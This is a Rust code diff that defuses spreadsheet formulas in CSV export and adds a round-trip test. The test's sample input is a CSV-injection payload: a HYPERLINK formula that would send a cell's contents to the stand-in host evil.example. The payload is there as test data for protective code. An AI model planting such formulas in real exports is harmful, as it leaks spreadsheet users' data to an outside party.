@@ -31,9 +31,14 @@ impl CsvWriter {
         CsvWriter { writer }
     }
 
-    /// Adds one record, its cells in [`Field::ALL`] order.
+    /// Adds one record, its cells in [`Field::ALL`] order, each defused for spreadsheets
+    /// ([`crate::spreadsheet::defuse`]; the CSV reader restores them).
     pub fn push(&mut self, cells: &[&str; 12]) {
-        let _ = self.writer.write_record(cells);
+        let _ = self.writer.write_record(
+            cells
+                .iter()
+                .map(|cell| crate::spreadsheet::defuse(cell).into_owned()),
+        );
     }
 
     pub fn finish(self) -> Vec<u8> {
@@ -125,5 +130,30 @@ mod tests {
             csv_of_rows(&again, &[0], &Zone::UTC),
             csv_of_rows(&store, &[1], &Zone::UTC)
         );
+    }
+
+    #[test]
+    fn formulas_from_the_log_are_written_as_text_and_read_back_as_they_were() {
+        let formula = r#"=HYPERLINK("http://evil.example/?"&A2,"open")"#;
+        let record = crate::record::Record {
+            timestamp: "2024-03-31T01:00:00Z".parse().unwrap(),
+            user_id: "@alice".into(),
+            action: "-edit".into(),
+            reuse_title: Some(formula.into()),
+            diff: Some("+SUM(1)".into()),
+            ..Default::default()
+        };
+        let mut store = Store::new();
+        store.push_record(&record);
+        let written = String::from_utf8(csv_of_rows(&store, &[0], &Zone::UTC)).unwrap();
+        let row = written.lines().nth(1).unwrap();
+        // By hand: every cell that starts with = + - @ has a leading quote mark.
+        assert_eq!(
+            row,
+            r#"2024-03-31T01:00:00+00:00;;'@alice;;;'-edit;;;'+SUM(1);;"'=HYPERLINK(""http://evil.example/?""&A2,""open"")";"#
+        );
+        let mut again = Store::new();
+        parse_any(written.as_bytes(), &mut again).unwrap();
+        assert_eq!(again.record(0), store.record(0));
     }
 }
